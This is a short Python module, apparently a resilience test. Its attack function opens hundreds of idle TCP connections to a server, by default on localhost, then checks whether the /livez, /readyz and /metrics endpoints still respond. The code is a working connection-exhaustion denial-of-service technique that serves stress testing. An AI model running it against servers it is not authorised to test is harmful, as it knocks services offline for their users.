"""Connections that send nothing, until no limit has room left; meanwhile a balancer asks whether the server works."""

from __future__ import annotations

import socket
from collections import Counter
from contextlib import ExitStack
from http.client import HTTPConnection, HTTPException
from urllib.parse import urlsplit

NAME = "connections that send nothing"
TIMEOUT = 60.0
PROBES = ("/livez", "/readyz", "/metrics")


def attack(url: str, connections: int = 500) -> Counter[str]:
    """Return how many probes were answered with each status; or how one got none."""
    place = urlsplit(url)
    host, port = place.hostname or "127.0.0.1", place.port or 80
    with ExitStack() as opened:
        for _ in range(connections):
            opened.enter_context(socket.create_connection((host, port), timeout=TIMEOUT))
        return Counter(_status(host, port, path) for path in PROBES)


def _status(host: str, port: int, path: str) -> str:
    connection = HTTPConnection(host, port, timeout=TIMEOUT)
    try:
        connection.request("GET", path)
        return str(connection.getresponse().status)
    except (OSError, HTTPException) as error:
        return f"no answer to {path}: {error!r}"
    finally:
        connection.close()
